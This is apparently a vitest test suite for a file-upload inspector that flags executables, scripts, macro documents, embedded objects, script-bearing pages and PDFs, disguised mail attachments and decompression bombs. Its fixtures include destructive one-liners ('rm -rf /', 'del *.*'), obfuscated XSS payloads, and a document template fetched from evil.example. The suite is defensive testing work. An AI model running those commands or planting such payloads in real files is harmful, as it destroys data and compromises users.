import { deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { compoundOf, type Packed, PROGRAMS, tarOf, zipOf } from "@/tests/support/archives";
import { findRunning } from "./inspect";

const of = (name: string, content: string | Uint8Array) => findRunning(name, Buffer.from(content));
const PLAIN: Packed = { path: "readme.txt", content: "Tag list of line 4\r\n" };
const BOOK: Packed = { path: "xl/workbook.xml", content: '<?xml version="1.0"?><workbook/>' };
const TYPES: Packed = { path: "[Content_Types].xml", content: '<?xml version="1.0"?><Types/>' };
const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

describe("a file that can run is held", () => {
  it.each<[string, string, string | Uint8Array, string]>([
    ["a program of Windows with a harmless name", "report.pdf", PROGRAMS.windows, "program"],
    ["a program of Linux", "tool", PROGRAMS.linux, "program"],
    ["a program of macOS", "tool", PROGRAMS.mac, "program"],
    ["an installer by its name", "setup.MSI", "x", "program"],
    ["an installer by its content", "setup.dat", compoundWith("84100c0000000000c000000000000046"), "program"],
    ["a program whose ending has a dot behind it", "setup.exe. .", "x", "program"],
    ["a program with a stream behind its name", "setup.exe::$DATA", "x", "program"],
    ["a library of classes", "a.jar", zipOf(PLAIN), "program"],
    ["a batch file", "go.cmd", "dir", "script"],
    ["a PowerShell file", "go.ps1", "Get-Date", "script"],
    ["JavaScript", "a.js", "alert(1)", "script"],
    ["VBScript", "a.vbs", "MsgBox 1", "script"],
    ["an HTML application", "a.hta", "<p>", "script"],
    ["a shortcut", "a.lnk", "L", "script"],
    [
      "a shortcut by its content",
      "a.dat",
      Buffer.from(`4c0000000114020000000000c000000000000046${"00".repeat(60)}`, "hex"),
      "script",
    ],
    ["a shell script by its first line", "notes.txt", "#!/bin/sh\nrm -rf /\n", "script"],
    ["a batch file by its first line", "notes.txt", "@echo off\r\ndel *.*\r\n", "script"],
    ["a batch file in wide letters", "notes.txt", wide("@echo off\r\n"), "script"],
    ["a script by what it calls", "notes.txt", 'Set s = CreateObject("WScript.Shell")', "script"],
    ["a document with macros", "plan.docx", zipOf(TYPES, { path: "word/vbaProject.bin", content: "x" }), "macro"],
    [
      "a workbook with macros in a sheet",
      "a.xlsx",
      zipOf(TYPES, { path: "xl/macrosheets/sheet1.xml", content: "<x/>" }),
      "macro",
    ],
    [
      "a document with a control",
      "a.docx",
      zipOf(TYPES, { path: "word/activeX/activeX1.xml", content: "<x/>" }),
      "object",
    ],
    ["a document that fetches its template", "a.docx", zipOf(TYPES, template()), "object"],
    [
      "a document with a packed file",
      "a.docx",
      zipOf(TYPES, { path: "word/embeddings/oleObject1.bin", content: compoundOf("\x01Ole10Native") }),
      "object",
    ],
    ["an old document with macros", "plan.doc", compoundOf("Root Entry", "Macros", "VBA"), "macro"],
    ["an old workbook with macros", "plan.xls", compoundOf("Root Entry", "_VBA_PROJECT_CUR"), "macro"],
    [
      "an old workbook with a macro sheet",
      "plan.xls",
      Buffer.concat([compoundOf("Workbook"), Buffer.from("85000d00221100000001050041", "hex")]),
      "macro",
    ],
    [
      "a document of text with packed macros",
      "plan.doc",
      "<?xml version='1.0'?><w:binData>QWN0aXZlTWltZQAA</w:binData>",
      "macro",
    ],
    [
      "a document of text with a part of macros",
      "plan.xml",
      '<?xml version="1.0"?><pkg:part pkg:name="/word/vbaProject.bin"/>',
      "macro",
    ],
    ["a sheet that starts programs", "tags.csv", "ID;PWXL;N;E\r\nC;Y1;X1;ECALL()", "script"],
    ["an old document with a packed file", "plan.doc", compoundOf("ObjectPool", "\x01Ole10Native"), "object"],
    ["an encrypted document", "plan.docx", compoundOf("EncryptionInfo", "EncryptedPackage"), "sealed"],
    ["Rich Text with an object", "a.rtf", "{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "object"],
    ["Rich Text called a document", "a.doc", "{\\rt {\\object\\objupdate}}", "object"],
    ["a page with script", "a.html", "<!doctype html><script>alert(1)</script>", "page"],
    ["a page with script called a picture", "plan.png", "<html><body onload=alert(1)>", "page"],
    ["a page with script in wide letters", "a.htm", wide("<p><script>1</script>"), "page"],
    ["a page with an address of script", "a.html", '<a href="java&#x73;cri&Tab;pt:alert(1)">x</a>', "page"],
    ["a drawing with script", "logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "page"],
    [
      "data with a sheet of transformations",
      "a.xml",
      '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><x/>',
      "page",
    ],
    ["a packed drawing with script", "logo.svgz", gzipSync("<svg><script>1</script></svg>"), "page"],
    ["a PDF with script", "a.pdf", "%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>", "script"],
    ["a PDF whose script is written by numbers", "a.pdf", "%PDF-1.7\n<</S/J#61vaScript>>", "script"],
    [
      "a mail with a program",
      "a.eml",
      'From: a@b.example\r\nMIME-Version: 1.0\r\nSubject: x\r\n\r\nContent-Disposition: attachment; filename="invoice.exe"\r\n',
      "program",
    ],
    ["a mail with a program whose name is encoded", "a.eml", mailWith("filename==?utf-8?B?c2V0dXAuZXhl?="), "program"],
    ["a mail with a program whose name has numbers", "mail.txt", mailWith("filename*=utf-8''setup%2Eexe"), "program"],
    ["an archive of another kind", "a.7z", "x", "sealed"],
    [
      "an archive of another kind by its content",
      "a.txt",
      Buffer.from(`377abcaf271c0004${"00".repeat(60)}`, "hex"),
      "sealed",
    ],
    ["what is called a zip and is none", "a.zip", "hello", "sealed"],
    ["an encrypted zip", "a.zip", zipOf({ ...PLAIN, isLocked: true }), "sealed"],
    ["a zip that breaks off", "a.zip", zipOf(PLAIN).subarray(0, 60), "sealed"],
    ["a gzip that breaks off", "a.gz", gzipSync(Buffer.alloc(5_000, 7)).subarray(0, 20), "sealed"],
    [
      "a picture that goes on as an archive",
      "a.png",
      Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), zipOf({ path: "A.class", content: "x" })]),
      "sealed",
    ],
  ])("%s", async (_what, name, content, reason) => {
    expect(await of(name, content)).toMatchObject({ reason });
  });

  it.each([
    ["a zip", async () => zipOf(PLAIN, { path: "tools/setup.exe", content: "x" })],
    [
      "a zip in a zip",
      async () => zipOf(PLAIN, { path: "in.zip", content: zipOf({ path: "tools/setup.exe", content: "x" }) }),
    ],
    ["a tar", () => tarOf(PLAIN, { path: "tools/setup.exe", content: PROGRAMS.windows })],
    ["a packed tar", async () => gzipSync(await tarOf(PLAIN, { path: "tools/setup.exe", content: PROGRAMS.windows }))],
  ])("in %s it is found and named", async (what, make) => {
    const ending = what === "a packed tar" ? "tgz" : what === "a tar" ? "tar" : "zip";
    expect(await of(`a.${ending}`, await make())).toEqual({ reason: "program", part: "setup.exe" });
  });

  it("a program in a zip is found by its content under a harmless name", async () => {
    expect(await of("a.zip", zipOf({ path: "photo.jpg", content: PROGRAMS.linux }))).toEqual({
      reason: "program",
      part: "photo.jpg",
    });
  });
});

function mailWith(parameter: string): string {
  return `From: a@b.example\r\nMIME-Version: 1.0\r\nSubject: x\r\n\r\nContent-Disposition: attachment; ${parameter}\r\n`;
}

function compoundWith(hex: string): Buffer {
  return Buffer.concat([compoundOf("Root Entry"), Buffer.from(hex, "hex")]);
}

function template(): Packed {
  const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
  return {
    path: "word/_rels/settings.xml.rels",
    content: `<Relationships><Relationship Id="r1" Type="${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
  };
}

describe("an archive is looked into no further than a budget goes", () => {
  it("four archives in each other are held", async () => {
    let packed = zipOf(PLAIN);
    for (let depth = 0; depth < 3; depth++) packed = zipOf({ path: "in.zip", content: packed });
    expect(await of("a.zip", packed)).toEqual({ reason: "too-much", part: "in.zip" });
  });

  it("a zip of many files that unpack to far more than they are is held within seconds", async () => {
    const zeros = Buffer.alloc(16 * 1024 * 1024);
    const bomb = zipOf(...Array.from({ length: 20 }, (_, at) => ({ path: `${at}.txt`, content: zeros })));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await of("a.zip", bomb)).toMatchObject({ reason: "too-much" });
  });

  it("a zip that announces little and holds much is held", async () => {
    const zeros = Buffer.alloc(40 * 1024 * 1024);
    const files = Array.from({ length: 8 }, (_, at) => ({ path: `${at}.txt`, content: zeros, announced: 10 }));
    expect(await of("a.zip", zipOf(...files))).toMatchObject({ reason: "too-much" });
  });

  it("a zip of more files than are counted is held", async () => {
    const many = Array.from({ length: 5_001 }, (_, at) => ({ path: `${at}.txt`, content: "" }));
    expect(await of("a.zip", zipOf(...many))).toMatchObject({ reason: "too-much" });
  });

  it("a gzip of what packs well many times over is held", async () => {
    expect(
      await of("a.gz", gzipSync(gzipSync(zipOf({ path: "x", content: Buffer.alloc(40 * 1024 * 1024) })))),
    ).toBeNull();
    const deep = gzipSync(gzipSync(gzipSync(gzipSync("x"))));
    expect(await of("a.gz", deep)).toMatchObject({ reason: "too-much" });
  });
});

describe("a file that does not run is not held", () => {
  it.each<[string, string, string | Uint8Array]>([
    ["a text", "notes.txt", "The @echo off line of our batch failed, and <script> stands in the log."],
    ["a table", "tags.csv", "Tag,Value\r\nFIC-101,4.2\r\n"],
    ["a table that begins with an id", "prices.csv", "ID;Price;Name\r\n1;2;x\r\n"],
    ["a picture", "plan.png", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")],
    ["a page without script", "report.html", "<!doctype html><title>Trend</title><p>FIC-101 is one of three.</p>"],
    ["a drawing without script", "logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'],
    [
      "data of an engineering tool",
      "project.xml",
      '<?xml version="1.0"?><Project><Object Name="Tank" OnScan="1"/><Set to="4"/></Project>',
    ],
    ["a PDF", "a.pdf", "%PDF-1.7\n1 0 obj<</Type/Catalog/URI(https://x.example)>>\n/JS\x01"],
    [
      "a document",
      "plan.docx",
      zipOf(TYPES, { path: "word/document.xml", content: '<?xml version="1.0"?><w:document/>' }),
    ],
    ["a workbook", "plan.xlsx", zipOf(TYPES, BOOK)],
    ["an old workbook", "plan.xls", compoundOf("Root Entry", "Workbook")],
    ["Rich Text", "a.rtf", "{\\rtf1\\ansi Hello}"],
    [
      "a mail with a picture",
      "a.eml",
      'From: a@b.example\r\nMIME-Version: 1.0\r\nSubject: x\r\n\r\nContent-Disposition: attachment; filename="photo.jpg"\r\n',
    ],
    ["a zip of texts", "logs.zip", zipOf(PLAIN, { path: "a/b.csv", content: "1,2" })],
    ["a packed log", "messages.log.gz", gzipSync("10:02 started\n".repeat(2_000))],
    [
      "a log in a zip that is larger than is read whole",
      "logs.zip",
      zipOf({ path: "trace.log", content: Buffer.alloc(40 * 1024 * 1024, "10:02 started\n") }),
    ],
    ["a name that ends in a dot", "report.", "x"],
    ["bytes of no kind", "dump.bin", Buffer.from([1, 2, 0, 4, 5])],
  ])("%s", async (_what, name, content) => {
    expect(await of(name, content)).toBeNull();
  });
});

describe("whatever somebody makes of a file", () => {
  const samples = async () =>
    [
      ["a.zip", zipOf(PLAIN, { path: "b.txt", content: "x".repeat(500) })],
      ["a.docx", zipOf(TYPES, { path: "word/document.xml", content: "<w:document/>" })],
      ["a.tar", await tarOf(PLAIN, { path: "b.txt", content: "x".repeat(500) })],
      ["a.gz", gzipSync("10:02 started\n".repeat(20))],
      ["a.doc", compoundOf("Root Entry", "WordDocument")],
      [
        "a.pdf",
        Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\r\n"), deflateSync("<</Type/Page>>")]),
      ],
      ["a.html", Buffer.from("<!doctype html><p>one &#x2; two</p>")],
      ["a.eml", Buffer.from(mailWith('filename="photo.jpg"'))],
    ] as const;

  it("it is held or not, and never breaks the looking", async () => {
    const made = await samples();
    const change = fc.record({ at: fc.nat(), byte: fc.nat(255) });
    await fc.assert(
      fc.asyncProperty(
        fc.nat(made.length - 1),
        fc.array(change, { maxLength: 12 }),
        fc.nat(),
        async (which, changes, cut) => {
          const [name, whole] = made[which] ?? ["", Buffer.alloc(0)];
          const content = Buffer.from(whole);
          for (const { at, byte } of changes) content[at % content.length] = byte;
          const held = await findRunning(name, cut % 3 === 0 ? content.subarray(0, cut % content.length) : content);
          expect(held === null || typeof held.reason === "string").toBe(true);
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it.each([
    ["a.html", "<a".repeat(4_000_000)],
    ["a.html", "&#x0".repeat(1_000_000)],
    ["a.rtf", `{\\rtf1 ${"\\ob ".repeat(5_000_000)}`],
    ["a.pdf", `%PDF-1.7 ${"/JS ".repeat(5_000_000)}`],
    ["a.pdf", `%PDF-1.7 ${"/ObjStm stream\n".repeat(1_500_000)}`],
    ["a.eml", `${mailWith("x=y")}${"name=a.b ".repeat(2_000_000)}`],
    ["notes.txt", `${"rem x\n".repeat(10_000)}`],
    ["notes.txt", `a: b\r\n${" c\r\n".repeat(1_500)}`],
    [`${".".repeat(60_000)}x`, "x"],
    [
      "a.xls",
      Buffer.concat([compoundOf("Workbook"), Buffer.alloc(24_000_000, Buffer.from([0x85, 0, 0x40, 0]))]).toString(
        "latin1",
      ),
    ],
  ])("one made to be slow is looked into within two seconds of CPU time: %s", async (name, content) => {
    const bytes = Buffer.from(content, "latin1");
    const before = process.cpuUsage();
    await findRunning(name, bytes);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(2_000);
  });
});
